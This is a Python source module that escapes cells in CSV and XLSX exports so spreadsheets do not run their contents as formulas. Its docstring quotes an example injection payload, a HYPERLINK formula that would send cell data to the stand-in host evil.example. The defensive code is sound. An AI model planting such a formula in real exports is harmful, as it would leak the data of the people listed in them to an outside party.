"""Cells of every CSV/XLSX export, safe to open in a spreadsheet (no formula injection).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by
Excel, LibreOffice and Google Sheets: a candidate named ``=HYPERLINK("http://evil.example/?d="&H2,"CV")``
would send the Secretariat's data elsewhere when the export is opened.

- CSV: :func:`safe_cell` prefixes such a value with an apostrophe, which spreadsheets show as text.
  A plain number or phone number (``+66 2 123 4567``, ``-5``: digits, spaces and ``+-().,/`` only) is
  left as it is: it cannot name a cell or call a function, and it must survive an export and re-import.
- XLSX: :func:`xlsx_cell` writes every text as a typed string cell (never a formula) and marks the risky
  ones with the "quote prefix" style, so the value itself is unchanged and re-imports as it was.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().,/+-]*")


def needs_escape(value: Any) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a leading apostrophe."""
    return f"'{value}" if needs_escape(value) else value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def xlsx_cell(sheet, value: Any):
    """A write-only XLSX cell for ``value``: text is always a string cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would store a text beginning with "=" as a formula
        if needs_escape(value):
            cell.quotePrefix = True
    return cell


def xlsx_row(sheet, values) -> list:
    return [xlsx_cell(sheet, value) for value in values]
